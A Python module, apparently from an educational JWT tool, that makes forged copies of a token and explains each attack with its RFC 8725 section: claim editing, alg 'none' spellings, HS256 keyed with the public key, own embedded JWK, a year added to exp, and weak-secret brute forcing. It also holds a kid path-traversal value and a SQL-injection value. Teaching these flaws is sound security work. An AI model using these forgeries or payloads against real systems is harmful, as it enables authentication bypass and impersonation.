"""Ways to spoil a token, each on a copy: what is done, why it would work, and who would have been fooled.

A forger has what everybody has: the token, the public key, a list of common secrets, and a fresh key. Nothing here
raises, and nothing here has the issuer's private key.
"""

from __future__ import annotations

import hmac
import inspect
import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from time import perf_counter
from typing import Any, NamedTuple

from joserfc.jwk import ECKey, OctKey

from flows.tokens import base64url, json_text
from flows.tokens.breaking.differs import compared, parts_of, text_of, told
from flows.tokens.judging import guesses as guessing
from flows.tokens.judging.guesses import HASHES
from flows.tokens.judging.profiles import guess
from flows.tokens.read import Encrypted, Other, Part, Signed, Token, is_b64, read, signing_input
from flows.tokens.ring import AnyKey, named
from flows.tokens.times import is_milliseconds, is_time
from flows.tokens.verify import SIGNING_ALGORITHMS

A_YEAR = 365 * 86_400
LONGEST = 64_000  # characters of a token that is broken here
FIRST_TRIES, LAST_TRIES = 10, 3  # of many guesses those that are shown
BEGINNING = 6  # bytes of an HMAC that are shown of a guess
PATH, QUERY = "../../dev/null", "' UNION SELECT 'mine"
FOOLED_ENCRYPTED = "Whoever decrypts, and never compares the tag that shows whether something was changed."
SECRET_OF_KID = {"path": b"", "query": b"mine"}  # what a careless look-up of that kid comes back with


@dataclass(frozen=True)
class Options:
    """What the forger chooses, and what is at hand.

    `header` and `payload` are JSON to begin with, "" for what the token has. `part` and `bit` say what is flipped: a
    name of `parts_of`, and a bit counted from 0, the first of a byte being its highest, or None for a suggested one.
    `key` is the key that verifies the original; only its public half is used. `now` is in seconds since 1970.
    """

    header: str = ""
    payload: str = ""
    part: str = "signature"
    bit: int | None = None
    variant: str = ""
    key: AnyKey | None = None
    now: int = 0


@dataclass(frozen=True)
class Try:
    """A guess at a secret, counted from 1, and the first bytes of the HMAC that was computed with it."""

    number: int
    secret: str
    begins: bytes
    fits: bool


@dataclass(frozen=True)
class Tries:
    """The guesses up to the one that fits, or to the last: the first and the last of them; how many are between them
    and how many there were to try. `signature` is the beginning of the one in the token."""

    first: tuple[Try, ...]
    between: int
    last: tuple[Try, ...]
    of: int
    signature: bytes


@dataclass(frozen=True)
class Spoiled:
    """The copy: its text, what changed in words, and which of its characters are new, as half-open ranges.

    `secret` is the one that was found, where one was, and `tries` how.
    """

    text: str
    says: str
    changed: tuple[tuple[int, int], ...]
    secret: bytes | None = None
    tries: Tries | None = None


@dataclass(frozen=True)
class Kept:
    """The token was left as it is; the sentence says why. `tries` are guesses of which none was right."""

    says: str
    tries: Tries | None = None


Made = Spoiled | Kept


@dataclass(frozen=True)
class Way:
    """One way to spoil a token.

    `fooled` says in one sentence who would have been fooled, `rfc` is the section against it, and `needed` says which
    key the forger needs. `variants` are the kinds of it that can be chosen, each with what it is called, the usual one
    first.
    """

    name: str
    title: str
    rfc: str
    fooled: str
    make: Callable[[Signed, Options], Made]
    unless: Callable[[Signed, Options], str]
    variants: dict[str, str]
    needed: str

    @property
    def says(self) -> str:
        """The docstring, shown to learners: what is done, and why it would work."""
        return inspect.cleandoc(self.make.__doc__ or "")


WAYS: dict[str, Way] = {}


def spoil(token: Token, name: str, options: Options) -> Made:
    """Do that to a copy of the token; Kept where it cannot be done. Never raises."""
    way = WAYS.get(name)
    if way is None:
        return Kept(f"There is no way to spoil a token that is called {named(name)}.")
    why = why_not(token, name, options)
    if why:
        return Kept(why)
    if isinstance(token, Encrypted):
        return _flip_encrypted(token, options)
    assert isinstance(token, Signed)
    if way.variants and options.variant not in way.variants:
        options = replace(options, variant=next(iter(way.variants)))
    return way.make(token, options)


def why_not(token: Token, name: str, options: Options) -> str:
    """Why a way does not apply to this token, as a sentence; "" where it does."""
    if isinstance(token, Other):
        return "It has no parts: a changed one is just another value, which nobody gave out."
    if token.form != "compact":
        return "Only the compact form is broken here."
    if len(token.text) > LONGEST:
        return f"It has {len(token.text):,} characters; at most {LONGEST:,} are broken here."
    if len(options.header) + len(options.payload) > LONGEST:
        return f"What was typed is longer than {LONGEST:,} characters."
    if isinstance(token, Encrypted):
        if name == "flip_bit":
            return ""
        return "It is encrypted: whatever is changed, the tag no longer fits. One bit is enough to see that."
    if token.signatures and not is_b64(token.signatures[0].header):
        return "Its payload is not base64url-encoded (`b64`), which is not broken here."
    return WAYS[name].unless(token, options)


def squeezed(text: str) -> str:
    """JSON without the spaces between its tokens."""
    return _SPACES.sub(lambda found: found[1] or "", text)


def public_pem(key: AnyKey | None) -> bytes:
    """The public half of a key as its file has it: PEM, with a line break at its end. ValueError for none."""
    if key is None or isinstance(key, OctKey):
        raise ValueError("there is no public key")
    return key.as_pem(private=False)


def _way(
    title: str,
    rfc: str,
    fooled: str,
    *,
    unless: Callable[[Signed, Options], str] = lambda token, options: "",
    variants: Mapping[str, str] | None = None,
    needed: str = "No key: the signature is not made anew.",
) -> Callable[[Callable[[Signed, Options], Made]], Way]:
    def register(make: Callable[[Signed, Options], Made]) -> Way:
        way = Way(make.__name__, title, rfc, fooled, make, unless, dict(variants or {}), needed)
        WAYS[way.name] = way
        return way

    return register


def _no_signature(token: Signed, options: Options) -> str:
    return "" if token.signatures[0].signature.encoded else "There is no signature in it."


def _is_unsecured(token: Signed, options: Options) -> str:
    return "It is unsecured already." if token.is_unsecured else ""


def _no_public_key(token: Signed, options: Options) -> str:
    if _alg(token) in HASHES:
        return "It is signed with a secret already; there is no public key."
    if options.key is None or isinstance(options.key, OctKey):
        return "The public key is not known here. Give it, and this can be tried."
    return ""


def _brings_its_key(token: Signed, options: Options) -> str:
    if guess(token) == "dpop-proof":
        return "A DPoP proof has to bring its key; the access token says which key that may be."
    return ""


def _no_exp(token: Signed, options: Options) -> str:
    exp = (token.claims or {}).get("exp")
    return "" if is_time(exp) or is_milliseconds(exp) else "There is no `exp` in it that could be moved."


def _one_spelling(token: Signed, options: Options) -> str:
    if no_signature := _no_signature(token, options):
        return no_signature
    if len(token.signatures[0].signature.data) % 3 == 0:
        return "The bytes of its signature fill their characters, so there is one spelling only."
    return ""


def _no_secret(token: Signed, options: Options) -> str:
    if _alg(token) not in HASHES:
        return f"It is signed with {named(_alg(token) or 'nothing')}; no secret made this signature."
    return _no_signature(token, options)


@_way(
    "Change a claim",
    "8725#section-3.3",
    "Whoever reads the claims without verifying anything: many a library has a `decode` that does just that.",
)
def edit(token: Signed, options: Options) -> Made:
    """Write something else into the payload or the header, and leave the signature as it was. base64url is no lock: who
    holds the token can read it, change it and write it again."""
    draft = _draft(token, options)
    if (draft.header, draft.payload) == _draft(token, Options())[:2]:
        return Kept("Nothing was changed yet. Change something in the header or the payload, then press this again.")
    return _spoiled(token, draft.text)


@_way(
    "Flip one bit",
    "7515#section-5.2",
    "Whoever looks whether a signature is there, and not whether it fits.",
)
def flip_bit(token: Signed, options: Options) -> Made:
    """One bit of one byte, a one for a zero. It is the least that can happen to a token, on a bad line or on purpose. A
    signature is over every bit, so none of them is too small to be noticed."""
    draft = _draft(token, options)
    found = parts_of(read(draft.text)).get(options.part)
    if found is None:
        return Kept(f"It has no part that is called {named(options.part)}: {', '.join(parts_of(token))}.")
    bit = suggested_bit(found) if options.bit is None else options.bit
    flipped = _flipped(found, bit)
    if isinstance(flipped, Kept):
        return flipped
    text = draft._replace(**{options.part: flipped}).text
    return _spoiled(token, text, _flip_told(found, bit))


@_way(
    "Cut the signature off",
    "8725#section-3.3",
    "Whoever verifies a signature if there is one, and asks for none.",
    unless=_no_signature,
)
def cut_signature(token: Signed, options: Options) -> Made:
    """What stands behind the last dot goes; the dot stays. Code that says “if there is a signature, verify it” has
    nothing to do then, and goes on."""
    return _spoiled(token, _draft(token, options)._replace(signature="").text)


@_way(
    "alg: none",
    "8725#section-3.1",
    "Whoever takes the algorithm from the token. `none` is a registered algorithm, so some libraries did as they were "
    "told.",
    unless=_is_unsecured,
    variants={"none": "none", "None": "None", "NONE": "NONE", "nOnE": "nOnE"},
)
def alg_none(token: Signed, options: Options) -> Made:
    """The header says how the token is signed, and the forger writes the header: with `none`, not at all. Where just
    that word is forbidden, another spelling may come through: a filter compares letters, and what reads the token after
    it does not."""
    draft = _with_header(_draft(token, options), alg=options.variant)
    return _spoiled(token, draft._replace(signature="").text)


@_way(
    "HS256 with the public key",
    "8725#section-2.1",
    "Whoever has one `verify(token, key)` for all algorithms, and lets the token choose among them.",
    unless=_no_public_key,
    needed="The public key, as PEM, which everybody may have.",
)
def public_key_as_secret(token: Signed, options: Options) -> Made:
    """The header says HS256, and the signature is an HMAC whose secret is the text of the issuer’s public key, which
    everybody may have. A verifier that holds just that text as its key, and computes whatever `alg` says, computes the
    same."""
    assert options.key
    draft = _with_header(_draft(token, options), alg="HS256")
    text = _hmac_signed(draft, public_pem(options.key), "HS256").text
    return _spoiled(token, text)


@_way(
    "Another kid",
    "8725#section-3.10",
    "Whoever builds a path or a query out of `kid`, which whoever sends the token has written.",
    variants={"path": "a path", "query": "a query"},
    needed="None of the issuer’s: the file at the end of that path is empty, the query brings its own secret, `mine`.",
)
def another_kid(token: Signed, options: Options) -> Made:
    """`kid` says which key to look up, so it can be aimed: a path leads to an empty file (`/dev/null`), a query
    returns a secret that it brings along. The token is signed with what comes back, and the forger knows it."""
    kid, secret = (PATH if options.variant == "path" else QUERY), SECRET_OF_KID[options.variant]
    draft = _with_header(_draft(token, options), alg="HS256", kid=kid)
    return _spoiled(token, _hmac_signed(draft, secret, "HS256").text)


@_way(
    "A key of one’s own",
    "8725#section-3.10",
    "Whoever verifies with the key that the token brings along, and does not ask whose it is.",
    unless=_brings_its_key,
    needed="A fresh key pair, made just now and kept nowhere.",
)
def own_jwk(token: Signed, options: Options) -> Made:
    """A fresh key pair is made; its public half goes into the header as `jwk`, and the private half signs. The
    signature really fits that key. But whose key is it? The forger’s."""
    key = ECKey.generate_key("P-256", {})
    draft = _with_header(_draft(token, options), alg="ES256", jwk=key.as_dict(private=False))
    made = SIGNING_ALGORITHMS["ES256"].computes.sign(draft.input, key.private_key)
    text = draft._replace(signature=base64url.encode(made)).text
    return _spoiled(token, text)


@_way(
    "A year longer",
    "8725#section-3.3",
    "Whoever looks at `exp` and not at the signature: a client, or a gateway, that only asks whether it is still good.",
    unless=_no_exp,
)
def stretch_exp(token: Signed, options: Options) -> Made:
    """`exp` moves a year on, and nothing else. A stolen token that works for minutes would work for a year. The
    signature is over `exp` too."""
    draft = _draft(token, options)
    exp = (token.claims or {})["exp"]
    later = (int(exp) + A_YEAR * 1000) if is_milliseconds(exp) else int(max(exp, options.now)) + A_YEAR
    return _spoiled(token, _with_payload(draft, exp=later).text)


@_way(
    "Another spelling of the base64url",
    "7515#section-2",
    "Whoever knows a token again by its characters: a list of tokens that were taken back, or used up already.",
    unless=_one_spelling,
    variants={"padding": "padding", "last": "the last character"},
)
def re_encode(token: Signed, options: Options) -> Made:
    """The same bytes in other characters: with the padding (`=`) that JOSE leaves out, or with bits set in the last
    character that belong to no byte. Some libraries read that all the same, and the signature fits. So one token has
    two spellings, and a list knows but one of them."""
    draft = _draft(token, options)
    data = token.signatures[0].signature.data
    usual = base64url.encode(data)
    if options.variant == "padding":
        other = usual + "=" * (-len(usual) % 4)
    else:
        other = usual[:-1] + base64url.ALPHABET[base64url.ALPHABET.index(usual[-1]) + 1]
    text = draft._replace(signature=usual if other == draft.signature else other).text
    return _spoiled(token, text)


@_way(
    "A weak secret",
    "8725#section-3.5",
    "Everybody who has this secret: the forged token is as good as the issuer’s, and no verifier can tell them apart.",
    unless=_no_secret,
    needed="The secret itself, guessed.",
)
def weak_secret(token: Signed, options: Options) -> Made:
    """Whoever has one token can try any number of secrets on it at home, and nobody notices: compute the HMAC,
    compare, take the next. Common secrets stand in lists. With the right one anything can be signed."""
    signed, alg = token.signatures[0], _alg(token)
    message, claims, kid = signing_input(token, signed), token.claims or {}, signed.header.text("kid")
    found = guessing.guess(message, signed.signature.data, alg, claims, kid)
    if not found.of:
        return Kept("The token is too long to try many secrets on it.")
    everything = tuple(guessing.guesses(claims, kid))
    began = perf_counter()
    made = [hmac.digest(each, message, HASHES[alg]) for each in everything]
    rate = f"{len(made) / max(perf_counter() - began, 1e-6):,.0f} a second on this machine, with one thread"
    tries = _tries(everything, made, found.number or found.of, signed.signature.data)
    if found.secret is None:
        return Kept(f"None of {found.of:,} guesses fits. They were tried at {rate}.", tries)
    draft = _draft(token, options)
    if draft.payload == token.payload.encoded:
        draft = _with_payload(draft, sub="mallory")
    says = (
        f"The secret is {_called(found.secret)}: guess {found.number:,} of {found.of:,}. "
        f"All {found.of:,} together were computed at {rate}."
    )
    text = _hmac_signed(_with_header(draft, alg=alg), found.secret, alg).text
    return replace(_spoiled(token, text, says, found.secret), tries=tries)


def _tries(secrets: tuple[bytes, ...], made: list[bytes], count: int, signature: bytes) -> Tries:
    """The first `count` guesses, without those in the middle where they are many."""
    tried = tuple(
        Try(number, _called(secret), hashed[:BEGINNING], hashed == signature)
        for number, (secret, hashed) in enumerate(zip(secrets[:count], made[:count], strict=True), 1)
    )
    if count <= FIRST_TRIES + LAST_TRIES:
        return Tries(tried, 0, (), len(secrets), signature[:BEGINNING])
    first, last = tried[:FIRST_TRIES], tried[-LAST_TRIES:]
    return Tries(first, count - len(first) - len(last), last, len(secrets), signature[:BEGINNING])


def _called(secret: bytes) -> str:
    """A secret as a sentence may hold it; in hexadecimal where it is no text."""
    if not secret:
        return "empty"
    text = secret.decode("utf-8", "replace")
    return named(text) if text.isprintable() and "\ufffd" not in text else named(f"0x{secret.hex()}")


# a copy while it is made


class _Draft(NamedTuple):
    """The encoded parts of the copy, and what follows them (the disclosures of an SD-JWT)."""

    header: str
    payload: str
    signature: str
    rest: str = ""

    @property
    def text(self) -> str:
        return f"{self.header}.{self.payload}.{self.signature}{self.rest}"

    @property
    def input(self) -> bytes:
        """What a signature is made over (RFC 7515 §5.1)."""
        return f"{self.header}.{self.payload}".encode("utf-8", "replace")


def _draft(token: Signed, options: Options) -> _Draft:
    """The copy to begin with: the token, with what was typed in place of its header and its payload."""
    parts = parts_of(token)
    header, payload = (
        _written(parts.get(name), typed) for name, typed in (("header", options.header), ("payload", options.payload))
    )
    _, tilde, rest = token.text.partition("~")
    return _Draft(header, payload, token.signatures[0].signature.encoded, tilde + rest)


def _written(old: Part | None, typed: str) -> str:
    """What was typed, encoded; the old characters where nothing but spaces differs."""
    bare = squeezed(typed)
    if old and (not bare or bare == squeezed(text_of(old))):
        return old.encoded
    return base64url.encode(bare.encode("utf-8", "replace"))


def _with_header(draft: _Draft, **members: Any) -> _Draft:
    return draft._replace(header=_set(draft.header, members))


def _with_payload(draft: _Draft, **members: Any) -> _Draft:
    return draft._replace(payload=_set(draft.payload, members))


def _set(encoded: str, members: dict[str, Any]) -> str:
    """A JSON object in which these members are set, encoded; all others stay as they were written."""
    held = json_text.read(base64url.decode(encoded).data)
    texts = {each.name: each.text for each in held.members if each.whole}
    texts |= {name: json.dumps(value, separators=(",", ":")) for name, value in members.items()}
    written = ",".join(f"{json.dumps(name)}:{text}" for name, text in texts.items())
    return base64url.encode(f"{{{written}}}".encode("utf-8", "replace"))


def _hmac_signed(draft: _Draft, secret: bytes, alg: str) -> _Draft:
    return draft._replace(signature=base64url.encode(hmac.digest(secret, draft.input, HASHES[alg])))


def _spoiled(token: Signed | Encrypted, text: str, says: str = "", secret: bytes | None = None) -> Spoiled:
    differs = told(token, read(text))
    return Spoiled(text, f"{says} {differs}".strip(), compared(token.text, text), secret)


def _alg(token: Signed) -> str:
    return token.signatures[0].header.text("alg")


def _flip_encrypted(token: Encrypted, options: Options) -> Made:
    parts = parts_of(token)
    found = parts.get(options.part)
    if found is None:
        return Kept(f"It has no part that is called {named(options.part)}: {', '.join(parts)}.")
    bit = suggested_bit(found) if options.bit is None else options.bit
    flipped = _flipped(found, bit)
    if isinstance(flipped, Kept):
        return flipped
    text = ".".join(flipped if name == options.part else each.encoded for name, each in parts.items())
    return _spoiled(token, text, _flip_told(found, bit))


def suggested_bit(of: Part) -> int:
    """A bit worth a flip: the lowest one of the last letter of a text, so that JSON stays JSON; or the first."""
    members = of.json.members if of.json else ()
    texts = [
        each
        for each in members
        if each.whole and each.name != "alg" and isinstance(each.value, str) and each.value.isascii()
        if each.value.isalnum()
    ]
    chosen = next((each for each in texts if each.name == "sub"), texts[0] if texts else None)
    return (chosen.end - 2) * 8 + 7 if chosen else 0


def _flipped(of: Part, bit: int) -> str | Kept:
    """The part with one bit the other way, encoded again."""
    bits = len(of.data) * 8
    if not bits:
        return Kept(f"The {of.name.replace('_', ' ')} is empty: there is no bit to flip.")
    if not 0 <= bit < bits:
        return Kept(f"The {of.name.replace('_', ' ')} has {bits:,} bits, counted from 0; there is no bit {bit:,}.")
    data = bytearray(of.data)
    data[bit // 8] ^= 0x80 >> bit % 8
    return base64url.encode(bytes(data))


def _flip_told(of: Part, bit: int) -> str:
    """Which byte it was, and what became of it."""
    old = of.data[bit // 8]
    new = old ^ (0x80 >> bit % 8)
    letters = [f" (`{chr(byte)}`)" if 0x20 < byte < 0x7F and byte != 0x60 else "" for byte in (old, new)]
    return (
        f"Bit {bit:,} of the {of.name.replace('_', ' ')} is the other way: byte {bit // 8:,} was "
        f"{old:02x}{letters[0]} and is {new:02x}{letters[1]}."
    )


_SPACES = re.compile(r'("(?:\\.|[^"\\])*(?:"|$))|[ \t\r\n]+', re.DOTALL)
